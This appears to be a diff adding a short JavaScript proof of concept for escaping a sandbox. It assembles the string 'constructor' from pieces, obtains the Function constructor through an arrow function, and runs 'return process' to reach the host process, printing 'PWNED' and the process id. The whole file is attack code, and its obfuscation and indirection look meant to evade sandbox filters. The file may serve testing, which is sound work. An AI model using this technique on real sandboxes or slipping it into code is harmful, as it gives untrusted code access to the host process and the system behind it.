@@ -1,0 +1,10 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+class C { go(f) { return f[w]; } }
+const t = new C();
+t.go({});
+const fn = (x) => x;
+const l = [];
+l.splice(0, 0, t);
+const o = Date.now() > 1 ? l[0] : {};
+console.log('PWNED', o.go(fn)('return process')().pid);
